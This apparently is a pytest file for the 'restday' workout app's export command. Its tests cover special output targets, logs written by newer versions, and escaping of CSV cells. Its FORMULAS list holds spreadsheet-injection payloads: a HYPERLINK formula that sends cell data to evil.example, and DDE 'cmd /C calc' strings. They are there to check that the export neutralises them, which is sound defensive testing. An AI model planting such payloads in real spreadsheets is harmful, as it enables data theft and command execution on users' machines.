"""`restday export` run as a real process on real files: it never replaces what is not a
plain file (a device, a FIFO, a socket, a symlink), never leaves out what a newer restday
stored, and never writes a CSV cell a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import json
import os
import socket
import stat
import subprocess
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from storage.exchange.export import spreadsheet_text
from storage.log.repository import Repository
from storage.model.exercise_library import BUILTIN_BY_ID
from storage.model.records import Exercise
from tests.support.terminal import restday

NOW = datetime(2026, 3, 10, 18, 0, tzinfo=UTC)
BENCH = BUILTIN_BY_ID["bench-press"]
IS_ROOT = os.geteuid() == 0


@pytest.fixture
def log(tmp_path: Path) -> Path:
    path = tmp_path / "data" / "log.json"
    with Repository(path, clock=lambda: NOW) as repo:
        workout = repo.start_workout("Push", at=NOW - timedelta(hours=1))
        for i in range(3):
            repo.log_set(workout, BENCH, 100, 5, rpe=8, at=NOW - timedelta(minutes=50 - i))
    return path


def exported_json(tmp_path: Path, log: Path) -> str:
    result = restday(tmp_path, "export", "--db", str(log), "--format", "json", now=NOW)
    assert result.returncode == 0, result.stderr
    return result.stdout


def same_export(a: str, b: str) -> bool:
    first, second = json.loads(a), json.loads(b)
    first.pop("exported"), second.pop("exported")
    return first == second


# -- -o: what is at the target -------------------------------------------------------------


def test_a_fifo_is_written_as_a_stream_and_stays_a_fifo(tmp_path: Path, log: Path) -> None:
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    received = tmp_path / "received.json"
    with open(received, "wb") as out:
        reader = subprocess.Popen(["cat", str(fifo)], stdout=out)
        try:
            result = restday(
                tmp_path, "export", "--db", str(log), "--format", "json", "-o", str(fifo), now=NOW
            )
            if result.returncode == 0 and not stat.S_ISFIFO(os.lstat(fifo).st_mode):
                reader.kill()  # the FIFO was replaced: cat waits for a writer forever
            reader.wait(timeout=30)
        finally:
            if reader.poll() is None:
                reader.kill()
                reader.wait()
    assert result.returncode == 0, result.stderr
    assert stat.S_ISFIFO(os.lstat(fifo).st_mode)
    assert same_export(received.read_text(), exported_json(tmp_path, log))


def test_a_symlink_to_a_device_writes_to_the_device(tmp_path: Path, log: Path) -> None:
    link = tmp_path / "null"
    link.symlink_to("/dev/null")
    result = restday(tmp_path, "export", "--db", str(log), "-o", str(link), now=NOW)
    assert result.returncode == 0, result.stderr
    assert link.is_symlink() and os.readlink(link) == "/dev/null"
    assert stat.S_ISCHR(os.stat("/dev/null").st_mode)


def test_a_link_to_standard_output_writes_there(tmp_path: Path, log: Path) -> None:
    """What `-o /dev/stdout` is: a symlink to /proc/self/fd/1 (here a pipe)."""
    link = tmp_path / "stdout"
    link.symlink_to("/proc/self/fd/1")
    result = restday(
        tmp_path, "export", "--db", str(log), "--format", "json", "-o", str(link), now=NOW
    )
    assert result.returncode == 0, result.stderr
    assert link.is_symlink()
    assert same_export(result.stdout, exported_json(tmp_path, log))


@pytest.mark.skipif(not IS_ROOT, reason="making a device node needs root")
def test_a_character_device_is_written_as_a_stream(tmp_path: Path, log: Path) -> None:
    device = tmp_path / "null"
    try:
        os.mknod(device, stat.S_IFCHR | 0o666, os.makedev(1, 3))  # what /dev/null is
    except PermissionError:
        pytest.skip("this container cannot make device nodes")
    result = restday(tmp_path, "export", "--db", str(log), "-o", str(device), now=NOW)
    assert result.returncode == 0, result.stderr
    assert stat.S_ISCHR(os.lstat(device).st_mode)
    assert {p.name for p in tmp_path.iterdir()} <= {"config", "data", "null"}  # no temp file


def test_a_symlink_to_a_file_is_written_through(tmp_path: Path, log: Path) -> None:
    real = tmp_path / "exports" / "latest.json"
    real.parent.mkdir()
    real.write_text("the previous export")
    link = tmp_path / "latest.json"
    link.symlink_to(real)
    result = restday(tmp_path, "export", "--db", str(log), "-o", str(link), now=NOW)
    assert result.returncode == 0, result.stderr
    assert link.is_symlink()
    assert same_export(real.read_text(), exported_json(tmp_path, log))
    assert os.stat(real).st_mode & 0o777 == 0o600


def test_a_socket_is_refused_and_left(tmp_path: Path, log: Path) -> None:
    path = tmp_path / "sock"
    server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    try:
        server.bind(str(path))
        result = restday(tmp_path, "export", "--db", str(log), "-o", str(path), now=NOW)
        assert result.returncode == 1
        message = result.stderr.strip()
        assert "\n" not in message and str(path) in message and "socket" in message
        assert stat.S_ISSOCK(os.lstat(path).st_mode)
    finally:
        server.close()


def test_a_symlink_to_a_directory_is_refused(tmp_path: Path, log: Path) -> None:
    folder = tmp_path / "folder"
    folder.mkdir()
    link = tmp_path / "link"
    link.symlink_to(folder)
    result = restday(tmp_path, "export", "--db", str(log), "-o", str(link), now=NOW)
    assert result.returncode == 1
    assert "is a directory" in result.stderr
    assert link.is_symlink() and list(folder.iterdir()) == []


# -- a log from a newer restday ------------------------------------------------------------


def newer_log(log: Path) -> dict:
    """Make `log` one a newer restday wrote: schema 2, a field and a table this one does not
    know; return its tables."""
    data = json.loads(log.read_bytes())
    data.setdefault("settings", {"1": {"id": "s1"}})
    (settings,) = data["settings"].values()
    settings["schema_version"] = 2
    settings["plate_math"] = True
    for doc in data["sets"].values():
        doc["tempo"] = "3-1-1"
    data["barbells"] = {"1": {"id": "b1", "name": "Ohio bar", "kg": 20}}
    log.write_bytes(json.dumps(data).encode())
    return data


def test_json_export_of_a_newer_log_keeps_every_table_and_field(tmp_path: Path, log: Path) -> None:
    stored = newer_log(log)
    before = log.read_bytes()
    document = json.loads(exported_json(tmp_path, log))
    assert document["log_schema"] == 2
    assert document["settings"] == next(iter(stored["settings"].values()))
    assert document["sets"] == list(stored["sets"].values())
    assert all(doc["tempo"] == "3-1-1" for doc in document["sets"])
    assert document["workouts"] == list(stored["workouts"].values())
    assert document["other_tables"] == {"barbells": list(stored["barbells"].values())}
    assert log.read_bytes() == before

    # This restday's import refuses it, saying why, rather than dropping what it can't read.
    out = tmp_path / "newer.json"
    out.write_text(json.dumps(document))
    result = restday(tmp_path, "import", str(out), "--db", str(tmp_path / "other.json"), now=NOW)
    assert result.returncode == 1
    assert "newer restday" in result.stderr


def test_csv_export_of_a_newer_log_is_refused_saying_why(tmp_path: Path, log: Path) -> None:
    newer_log(log)
    target = tmp_path / "sets.csv"
    for args in (["--format", "csv"], ["-o", str(target)]):
        result = restday(tmp_path, "export", "--db", str(log), *args, now=NOW)
        assert result.returncode == 1
        message = result.stderr.strip()
        assert "\n" not in message
        assert "newer restday" in message and "--format json" in message
        assert result.stdout == ""
    assert not target.exists()


# -- CSV cells a spreadsheet would run ----------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
]


def test_csv_cells_that_start_like_a_formula_are_neutralised(tmp_path: Path) -> None:
    log = tmp_path / "log.json"
    with Repository(log, clock=lambda: NOW) as repo:
        exercise = repo.add_exercise(
            Exercise(name=FORMULAS[1], equipment="other", muscles={"chest": 1.0})
        )
        workout = repo.start_workout(FORMULAS[0], at=NOW - timedelta(hours=1))
        for i, note in enumerate(FORMULAS):
            repo.log_set(workout, exercise, 100, 5, notes=note, at=NOW - timedelta(minutes=50 - i))
        repo.log_set(workout, exercise, 102.5, 5, notes="-5", at=NOW - timedelta(minutes=10))
    target = tmp_path / "sets.csv"
    result = restday(tmp_path, "export", "--db", str(log), "-o", str(target), now=NOW)
    assert result.returncode == 0, result.stderr
    with open(target, newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    assert [r["Notes"] for r in rows] == [f"'{note}" for note in FORMULAS] + ["-5"]
    assert {r["Workout"] for r in rows} == {f"'{FORMULAS[0]}"}
    assert {r["Exercise"] for r in rows} == {f"'{FORMULAS[1]}"}
    assert [r["Weight"] for r in rows] == ["100"] * len(FORMULAS) + ["102.5"]
    assert {r["Reps"] for r in rows} == {"5"}


def test_a_cell_starting_with_a_tab_or_a_return_is_neutralised_too() -> None:
    """No record holds one (text is made printable as it enters), but the export does not
    count on it."""
    cells = [spreadsheet_text(cell) for cell in ("\t=1+1", "\r=1+1", "-5")]
    assert cells == ["'\t=1+1", "'\r=1+1", "-5"]
